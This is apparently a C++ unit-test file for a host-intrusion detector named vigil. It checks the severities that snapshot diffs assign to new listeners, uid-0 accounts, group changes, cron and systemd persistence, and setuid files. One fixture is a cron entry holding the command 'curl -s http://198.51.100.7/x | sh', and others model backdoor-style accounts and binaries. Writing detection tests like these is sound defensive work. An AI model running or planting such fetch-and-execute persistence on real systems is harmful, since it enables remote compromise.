// vigil diff on in-memory snapshots: identity keys, what is ignored, severities.
#include <gtest/gtest.h>

#include "detect/snapshot_diff.hpp"
#include "support/snapshot_builder.hpp"

using namespace vigil;
using namespace vigil::testing;

namespace {

collect::Snapshot base() {
  auto s = empty_snapshot();
  s.processes.push_back(process(100, "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D"}, "openssh-server"));
  s.sockets.push_back(socket("tcp", "LISTEN", "0.0.0.0", 22, 100));
  s.sockets.back().executable = "/usr/sbin/sshd";
  s.sockets.back().process = "sshd";
  collect::UserRow root;
  root.name = "root";
  root.shell = "/bin/bash";
  root.login_shell = true;
  s.accounts.users.push_back(root);
  collect::GroupRow sudo;
  sudo.name = "sudo";
  sudo.gid = 27;
  sudo.members = "alice";
  s.accounts.groups.push_back(sudo);
  collect::PackageRow pkg{"openssh-server", "1:9.2p1-2", "amd64", "openssh", "installed", 1800};
  s.installed_packages.push_back(pkg);
  s.tables = {"processes", "sockets", "users", "groups", "packages", "persistence", "file_checks"};
  return s;
}

}  // namespace

TEST(SnapshotDiff, SameStateWithNewPidsAndConnectionsIsQuiet) {
  auto a = base(), b = base();
  b.processes[0].pid = 4242;  // restarted: same program, command line and user
  b.processes[0].start_time = 99;
  b.sockets[0].pid = 4242;
  b.sockets[0].inode = 777;
  b.sockets.push_back(socket("tcp", "ESTABLISHED", "10.0.0.1", 22, 4242, 4, "10.0.0.9", 51234));
  auto k = process(2, "", {});
  k.kernel_thread = true;
  k.name = "kworker/0:1-events";
  b.processes.push_back(k);
  collect::FileCheckRow recent;
  recent.check = "recent-system-file";
  recent.path = "/etc/hosts";
  b.file_checks.push_back(recent);
  auto self = process(5000, "/usr/local/bin/vigil", {"vigil", "diff"});
  self.self = true;
  b.processes.push_back(self);
  auto r = detect::diff_snapshots(a, b);
  EXPECT_TRUE(r.findings.empty()) << r.findings.front().rule;
  EXPECT_EQ(r.compared.size(), 7u);
}

TEST(SnapshotDiff, NewUnpackagedListenerIsHighAndItsProcessReported) {
  auto a = base(), b = base();
  b.processes.push_back(process(300, "/tmp/msupdate", {"/tmp/msupdate", "-l", "-p", "3349"}));
  b.sockets.push_back(socket("tcp", "LISTEN", "127.0.0.1", 3349, 300));
  b.sockets.back().executable = "/tmp/msupdate";
  auto r = detect::diff_snapshots(a, b);
  ASSERT_EQ(r.findings.size(), 2u);
  auto l = with_rule(r.findings, "change.listener-added");
  ASSERT_EQ(l.size(), 1u);
  EXPECT_EQ(l[0]->severity, Severity::high);
  EXPECT_EQ(l[0]->get("destination.port"), "3349");  // the ECS names triage uses
  auto p = with_rule(r.findings, "change.process-added");
  ASSERT_EQ(p.size(), 1u);
  EXPECT_EQ(p[0]->severity, Severity::medium);  // unowned and in /tmp
  // And back: the port closed is low, the program gone is info.
  auto back = detect::diff_snapshots(b, a);
  EXPECT_EQ(with_rule(back.findings, "change.listener-removed")[0]->severity, Severity::low);
  EXPECT_EQ(with_rule(back.findings, "change.process-removed")[0]->severity, Severity::info);
}

TEST(SnapshotDiff, PackagedLoopbackListenerIsMedium) {
  auto a = base(), b = base();
  b.processes.push_back(process(400, "/usr/sbin/chronyd", {"/usr/sbin/chronyd"}, "chrony"));
  b.sockets.push_back(socket("udp", "UNCONN", "127.0.0.1", 323, 400));
  b.sockets.back().executable = "/usr/sbin/chronyd";
  auto r = detect::diff_snapshots(a, b);
  EXPECT_EQ(with_rule(r.findings, "change.listener-added")[0]->severity, Severity::medium);
  EXPECT_EQ(with_rule(r.findings, "change.process-added")[0]->severity, Severity::info);
}

TEST(SnapshotDiff, AccountChangesBySeverity) {
  auto a = base(), b = base();
  collect::UserRow toor;
  toor.name = "toor";
  toor.uid = 0;
  b.accounts.users.push_back(toor);
  collect::UserRow daemon;
  daemon.name = "svc";
  daemon.uid = 998;
  daemon.shell = "/usr/sbin/nologin";
  b.accounts.users.push_back(daemon);
  b.accounts.groups[0].members = "alice,mallory";
  auto r = detect::diff_snapshots(a, b);
  auto added = with_rule(r.findings, "change.user-added");
  ASSERT_EQ(added.size(), 2u);
  EXPECT_EQ(added[0]->severity, Severity::high);  // sorted worst first: toor
  EXPECT_EQ(added[0]->get("user.name"), "toor");
  EXPECT_EQ(added[1]->severity, Severity::low);
  auto group = with_rule(r.findings, "change.group-changed");
  ASSERT_EQ(group.size(), 1u);
  EXPECT_EQ(group[0]->severity, Severity::high);
  EXPECT_NE(group[0]->get_all("vigil.changes").find("members: alice → alice,mallory"), std::string::npos);

  auto c = base();
  c.accounts.users.push_back(daemon);
  auto d = c;
  d.accounts.users.back().uid = 0;
  r = detect::diff_snapshots(c, d);
  auto changed = with_rule(r.findings, "change.user-changed");
  ASSERT_EQ(changed.size(), 1u);
  EXPECT_EQ(changed[0]->severity, Severity::high);
  EXPECT_NE(changed[0]->get_all("vigil.changes").find("uid: 998 → 0"), std::string::npos);
}

TEST(SnapshotDiff, StartupItemsAndPackages) {
  auto a = base(), b = base();
  collect::PersistenceRow cron;
  cron.kind = "cron";
  cron.location = "/etc/cron.d/update";
  cron.line = 3;
  cron.command = "curl -s http://198.51.100.7/x | sh";
  b.persistence.push_back(cron);
  collect::PersistenceRow unit;
  unit.kind = "systemd";
  unit.location = "/etc/systemd/system/backup.service";
  unit.command = "/usr/local/bin/backup";
  b.persistence.push_back(unit);
  b.installed_packages[0].version = "1:9.2p1-2+deb12u3";
  b.installed_packages.push_back({"netcat-traditional", "1.10-47", "amd64", "", "installed", 100});
  auto r = detect::diff_snapshots(a, b);
  auto p = with_rule(r.findings, "change.persistence-added");
  ASSERT_EQ(p.size(), 2u);
  EXPECT_EQ(p[0]->severity, Severity::high);
  EXPECT_EQ(p[1]->severity, Severity::medium);
  EXPECT_EQ(with_rule(r.findings, "change.package-added")[0]->severity, Severity::info);
  auto up = with_rule(r.findings, "change.package-changed");
  ASSERT_EQ(up.size(), 1u);
  EXPECT_NE(up[0]->get_all("vigil.changes").find("version: 1:9.2p1-2 → 1:9.2p1-2+deb12u3"), std::string::npos);

  // The cron line moved down a line: same item, no change.
  auto c = b;
  c.persistence[0].line = 9;
  EXPECT_TRUE(detect::diff_snapshots(b, c).findings.empty());
}

TEST(SnapshotDiff, TableOnlyOneSideHoldsIsNotCompared) {
  auto a = base(), b = base();
  a.tables.erase("file_checks");
  collect::FileCheckRow suid;
  suid.check = "setuid";
  suid.path = "/var/tmp/.x/bash";
  b.file_checks.push_back(suid);
  auto r = detect::diff_snapshots(a, b);
  EXPECT_TRUE(r.findings.empty());
  EXPECT_EQ(r.skipped, std::vector<std::string>{"file_checks"});
  a.tables.insert("file_checks");
  r = detect::diff_snapshots(a, b);
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].rule, "change.file-check-added");
  EXPECT_EQ(r.findings[0].severity, Severity::high);
}

TEST(SnapshotDiff, InterfaceTurningPromiscuousIsMedium) {
  auto a = base(), b = base();
  collect::InterfaceRow eth;
  eth.name = "eth0";
  a.interfaces.push_back(eth);
  eth.promiscuous = true;
  b.interfaces.push_back(eth);
  a.tables.insert("interfaces");
  b.tables.insert("interfaces");
  auto r = detect::diff_snapshots(a, b);
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].rule, "change.interface-changed");
  EXPECT_EQ(r.findings[0].severity, Severity::medium);
}
